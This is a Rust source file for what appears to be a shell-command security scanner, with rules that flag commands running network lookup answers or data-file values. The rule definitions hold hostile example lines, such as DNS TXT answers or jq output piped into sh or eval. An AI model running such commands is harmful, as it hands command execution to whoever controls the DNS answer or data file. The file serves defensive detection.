//! Text that nobody has read and that is run: what a server answers, what data files hold.
//!
//! In: evaluations with what flows into them. Out: findings of the family *execution*. Downloads and decoded text have
//! rules of their own; what a program of this machine generates from names and numbers (`ls | sed … | sh`) is no finding.

use super::execution::{SINKS, runs_it, title_of};
use super::facts::{Power, power};
use super::{Category, Facts, Findings, Rule};
use crate::effect::{Effect, Object, Verb};
use crate::finding::{Confidence, Severity};

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "network_answer_executed",
        title: "Answer from the network is run",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Execution,
        mitre: Some("T1071.004"),
        floor: false,
        description: "What a server answers to a look-up is run as a program: whoever answers runs commands here, over a channel \
                      that few watch. Look at the answer first, and never run it.",
        remediation: "Look at the answer, and never run it.",
        good: &["dig +short e.example | sort", "host e.example", "kubectl get pods -o name | xargs kubectl describe"],
        bad: &[
            "dig +short txt x.e.example | sh",
            "eval \"$(dig +short txt x.e.example)\"",
            "kubectl get cm x -o jsonpath='{.data.run}' | sh",
        ],
        check: answer,
    },
    Rule {
        id: "data_executed",
        title: "Values of a data file are run",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::Execution,
        mitre: Some("T1059.004"),
        floor: false,
        description: "Values are taken out of a data file and run as commands, so that whoever writes the file decides what \
                      happens. Print them, read them, then run the ones that are meant.",
        remediation: "Print the values and read them before any of them is run.",
        good: &["jq -r .name x.json", "jq . x.json | less"],
        bad: &["jq -r .cmd x.json | sh", "eval \"$(jq -r .cmd x.json)\""],
        check: data,
    },
];

/// The object of the effect of what shows every variable.
const ENVIRONMENT: &str = "environment";
/// The object of the effect of what shows the commands that were typed.
pub(super) const TYPED: &str = "typed-commands";

fn runs_fully(sink: &Effect) -> bool {
    match &sink.object {
        Object::Code(l, _) => power(*l) == Power::Full,
        _ => true,
    }
}

fn answer(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    if !facts.any(Verb::Probe) && !facts.any(Verb::Inspect) {
        return;
    }
    for sink in facts.with(SINKS).filter(|s| runs_fully(s)) {
        for (from, way) in facts.sources_with(sink, &[Verb::Probe, Verb::Inspect]) {
            // One's own variables and what one typed are nobody's answer.
            let own = matches!(from.object, Object::Stated(ENVIRONMENT | TYPED));
            let answers = from.verb == Verb::Probe || !own;
            if answers && runs_it(sink, way) {
                let severity = if from.verb == Verb::Probe { rule.severity } else { Severity::Medium };
                out.add(
                    rule.about(facts, sink)
                        .severity(severity)
                        .also_at(facts.command_place(from))
                        .also(from)
                        .title(format!("{}: {}", rule.title, title_of(facts, from, sink, way)))
                        .evidence("flow", "runs what it is given", facts.command_place(sink))
                        .evidence("host", "is asked", from.place),
                );
            }
        }
    }
}

fn data(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    // A language that can only shape data says that its input is data.
    let shapes = |e: &&Effect| matches!(&e.object, Object::Code(l, _) if power(*l) == Power::Data);
    if !facts.with(&[Verb::Evaluate]).any(|e| shapes(&e)) {
        return;
    }
    for sink in facts.with(&[Verb::Evaluate]).filter(|s| runs_fully(s)) {
        for (from, way) in facts.sources_with(sink, &[Verb::Read]) {
            let shaped = facts.with(&[Verb::Evaluate]).filter(shapes).any(|e| e.process == from.process);
            if shaped && runs_it(sink, way) {
                out.add(
                    rule.about(facts, sink)
                        .also_at(facts.command_place(from))
                        .also(from)
                        .title(format!("{}: {}", rule.title, title_of(facts, from, sink, way)))
                        .evidence("flow", "runs what it is given", facts.command_place(sink))
                        .evidence("path", "holds it", from.place),
                );
            }
        }
    }
}
